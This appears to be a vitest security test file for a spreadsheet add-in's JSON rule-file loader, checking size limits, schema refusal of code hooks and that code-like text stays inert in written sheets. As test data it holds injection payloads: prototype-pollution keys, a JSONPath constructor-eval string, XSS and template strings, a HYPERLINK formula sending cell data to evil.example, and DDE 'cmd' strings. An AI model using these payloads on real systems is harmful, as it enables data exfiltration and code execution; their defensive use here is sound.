// A rule file a user loads is size-limited and schema-checked before use, and rules can
// never carry code: every object in a rule file refuses unknown properties (so no `path`,
// `params`, `$where`, `__proto__` reaches json-rules-engine), operators are the four
// Decimal-aware ones, and text that looks like code (functions, template literals, HTML,
// spreadsheet formulas) is inert data all the way to the sheets the product writes.
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { Decimal } from '../../addin/core/decimal';
import {
  allocate,
  allocationSheet,
  builtinCatalog,
  evaluate,
  evaluationSheet,
  indicatorSheet,
  loadAgreementText,
  MAX_RULE_FILE_BYTES,
  withAgreement,
  type Agreement,
  type Facts,
} from '../../addin/api';
import { builtinReference } from '../../addin/engine/rules/catalog';
import { ConditionEngine } from '../../addin/engine/conditions/engine';
import { MemoryWorkbook } from '../../addin/workbook/memory';
import { memoryPort } from '../fake-host/memory-port';

const ref = builtinReference();
const TEXT = readFileSync(new URL('../../rules/agreements/2026.json', import.meta.url), 'utf8');
const DOC = JSON.parse(TEXT) as Record<string, unknown>;

afterEach(() => vi.restoreAllMocks());

describe('size limit, before parsing', () => {
  test(`a file over ${MAX_RULE_FILE_BYTES} bytes is refused unparsed; at the limit it is read`, () => {
    const parse = vi.spyOn(JSON, 'parse');
    const padTo = (bytes: number) => TEXT.replace(/\s*$/, '') + ' '.repeat(bytes - new TextEncoder().encode(TEXT.replace(/\s*$/, '')).length);
    const at = loadAgreementText(padTo(MAX_RULE_FILE_BYTES), 'at-limit.json', ref);
    expect(at.ok).toBe(true);
    parse.mockClear();
    const over = loadAgreementText(padTo(MAX_RULE_FILE_BYTES + 1), 'over.json', ref);
    expect(over).toEqual({ ok: false, errors: [{ file: 'over.json', path: '', message: `rule file is ${MAX_RULE_FILE_BYTES + 1} bytes; the limit is ${MAX_RULE_FILE_BYTES}`, text: { en: `rule file is ${MAX_RULE_FILE_BYTES + 1} bytes; the limit is ${MAX_RULE_FILE_BYTES}`, sv: `regelfilen är ${MAX_RULE_FILE_BYTES + 1} byte; gränsen är ${MAX_RULE_FILE_BYTES}` } }] });
    expect(parse).not.toHaveBeenCalled();
  });

  test('the limit counts bytes, not characters: 600 000 "ö" (1 200 000 bytes in UTF-8) are refused', () => {
    const text = `{"id":"${'ö'.repeat(600_000)}"}`;
    expect(text.length).toBeLessThan(MAX_RULE_FILE_BYTES);
    const r = loadAgreementText(text, 'wide.json', ref);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.errors[0]!.message).toMatch(/limit is 1000000/);
  });

  test('not text, or not JSON: refused with the file and the root path, nothing thrown', () => {
    expect(loadAgreementText(42 as unknown as string, 'x.json', ref)).toMatchObject({ ok: false, errors: [{ path: '' }] });
    expect(loadAgreementText('{"id": "2026",', 'cut.json', ref)).toMatchObject({ ok: false, errors: [{ file: 'cut.json', path: '' }] });
    expect(loadAgreementText('\uFEFF' + TEXT, 'bom.json', ref).ok).toBe(true);
  });
});

/** Every object in a JSON value, with its JSON Pointer. */
function objects(v: unknown, at = ''): { at: string; obj: Record<string, unknown> }[] {
  if (Array.isArray(v)) return v.flatMap((x, i) => objects(x, `${at}/${i}`));
  if (v && typeof v === 'object') {
    const o = v as Record<string, unknown>;
    return [{ at, obj: o }, ...Object.entries(o).flatMap(([k, x]) => objects(x, `${at}/${k.replace(/~/g, '~0').replace(/\//g, '~1')}`))];
  }
  return [];
}

describe('rules carry no code', () => {
  const nodes = objects(DOC);

  test(`every one of the rule file's ${nodes.length} objects refuses an unknown property (a code hook), naming its JSON path`, () => {
    const keys = ['path', 'params', '$where', 'script', 'onLoad', 'constructor', '__proto__'];
    let refused = 0;
    nodes.forEach(({ at }, n) => {
      const key = keys[n % keys.length]!;
      // inject as text, so "__proto__" becomes an own property the way JSON.parse makes it
      const doc = JSON.parse(TEXT);
      const target = at === '' ? doc : at.split('/').slice(1).reduce((o: Record<string, unknown>, k) => o[k] as Record<string, unknown>, doc);
      target.__inject__ = { polluted: true, run: 'globalThis.__pwned = 1' };
      const text = JSON.stringify(doc).replace('"__inject__"', JSON.stringify(key));
      const r = loadAgreementText(text, 'hook.json', ref);
      expect(r.ok, `${at} with "${key}"`).toBe(false);
      if (!r.ok) expect(r.errors.map((e) => e.path), `${at} with "${key}"`).toContain(at || '/');
      refused++;
    });
    expect(refused).toBe(nodes.length);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((globalThis as Record<string, unknown>).__pwned).toBeUndefined();
  });

  test('a condition may only use the four Decimal-aware operators and the known indicators', () => {
    const conditions = DOC.conditions as Record<string, unknown>[];
    for (const [field, value] of [
      ['operator', 'equal'], ['operator', 'greaterThanInclusive'], ['operator', 'in'], ['operator', '__proto__'],
      ['fact', 'constructor'], ['fact', '__proto__'], ['fact', 'process'],
      ['value', 'function () { return true }'], ['value', '() => true'], ['value', { fact: 'inclusion' }], ['value', ['0.70']],
    ] as const) {
      const doc = structuredClone(DOC);
      (doc.conditions as Record<string, unknown>[])[0]![field] = value;
      const r = loadAgreementText(JSON.stringify(doc), 'op.json', ref);
      expect(r.ok, `${field} = ${JSON.stringify(value)}`).toBe(false);
      if (!r.ok) expect(r.errors.some((e) => e.path.startsWith('/conditions/0')), `${field}: ${JSON.stringify(r.errors)}`).toBe(true);
    }
    expect(conditions.length).toBeGreaterThan(0);
  });

  test('the condition engine builds each json-rules-engine condition from fact, operator and value only', () => {
    const loaded = loadAgreementText(TEXT, '2026.json', ref);
    expect(loaded.ok).toBe(true);
    const a = (loaded as { agreement: Agreement }).agreement;
    // even an agreement object that grew extra fields after validation passes none of them on
    const tampered = structuredClone(a);
    Object.assign(tampered.conditions[0]!, { path: '$..[?(@.constructor.constructor("globalThis.__pwned=1")())]', params: { x: 1 } });
    const engine = new ConditionEngine(tampered) as unknown as { engine: { rules: { conditions: { all: Record<string, unknown>[] } }[] } };
    for (const rule of engine.engine.rules)
      for (const c of rule.conditions.all) expect(Object.keys(c).filter((k) => !['fact', 'operator', 'value'].includes(k) && c[k] !== undefined && c[k] !== null && !(k === 'params' && JSON.stringify(c[k]) === '{}')), JSON.stringify(c)).toEqual([]);
  });
});

const CODE = [
  'function () { globalThis.__pwned = 1 }',
  '() => { globalThis.__pwned = 1 }',
  '${globalThis.__pwned = 1}',
  '{{constructor.constructor("globalThis.__pwned = 1")()}}',
  '<img src=x onerror="globalThis.__pwned = 1">',
  '=HYPERLINK("https://evil.example/?d="&A1,"klicka")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
];

describe('text that looks like code is inert data, through to the sheets', () => {
  test('labels, titles and citations with code in them load, allocate, evaluate and are written as text', async () => {
    const doc = structuredClone(DOC) as {
      title: string;
      pots: { title: { sv: string; en: string } }[];
      conditions: { label: { sv: string; en: string }; cite: { text: string } }[];
    };
    doc.title = CODE[0]!;
    doc.pots.forEach((p, i) => (p.title = { sv: CODE[(i + 1) % CODE.length]!, en: CODE[(i + 2) % CODE.length]! }));
    doc.conditions.forEach((c, i) => (c.label = { sv: CODE[i % CODE.length]!, en: CODE[(i + 3) % CODE.length]! }));
    const r = loadAgreementText(JSON.stringify(doc), 'code.json', ref);
    if (!r.ok) throw new Error(JSON.stringify(r.errors.slice(0, 3)));
    const catalog = withAgreement(builtinCatalog(), r.agreement);
    const wb = new MemoryWorkbook();
    wb.addSheet('Blad1');
    const { port } = memoryPort(wb);
    const sheets = [];
    for (const pot of r.agreement.pots.filter((p) => p.split.by === 'population' || p.split.by === 'equal').slice(0, 4))
      sheets.push(allocationSheet(allocate(catalog, { agreement: '2026', pot: pot.id }), catalog, 'sv'));
    const indicators = catalog.reference.regions.map((reg, i) => ({
      code: reg.code,
      values: { inclusion: new Decimal(i % 3 ? '0.8' : '0.5'), prem: i % 4 !== 0, report_submitted: true, inclusion_breast: new Decimal('0.8'), leadtime_breast: new Decimal('0.5'), inclusion_colorectal: new Decimal('0.8'), leadtime_colorectal: new Decimal('0.7'), inclusion_prostate: new Decimal('0.8'), leadtime_prostate: new Decimal('0.7') } as Facts,
    }));
    sheets.push(evaluationSheet(await evaluate(catalog, { agreement: '2026', indicators }), catalog, 'sv'), indicatorSheet(catalog, '2026', 'sv'));
    let formulaLike = 0;
    for (const spec of sheets) {
      const { sheet } = await port.writeSheet(spec);
      // every text cell is stored as the text it was; one that Excel would take for a formula is formatted as text ("@")
      spec.cells.forEach((row, i) =>
        row.forEach((v, j) => {
          if (typeof v !== 'string' || v === '') return;
          const c = wb.getCell(sheet, i, j);
          expect(c.value).toBe(v);
          if (/^[=+\-@]/.test(v)) {
            formulaLike++;
            expect(c.numberFormat, `${sheet}!${i},${j}: ${v}`).toBe('@');
          }
        }),
      );
    }
    expect(formulaLike).toBeGreaterThan(0);
    // and in an .xlsx (the CLI's --out): still text, not formulas
    const { xlsxBytes, toExcelJS } = await import('../../addin/workbook/xlsx');
    const book = toExcelJS(wb);
    let cells = 0;
    book.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      cells++;
      expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
    })));
    expect(cells).toBeGreaterThan(100);
    expect((await xlsxBytes(wb)).length).toBeGreaterThan(0);
    expect((globalThis as Record<string, unknown>).__pwned).toBeUndefined();
    console.log(`security, rules: code-like text in ${r.agreement.pots.length} pot titles and ${r.agreement.conditions.length} condition labels stayed text through ${sheets.length} sheets (${formulaLike} cells that Excel would read as formulas written as text)`);
  });
});
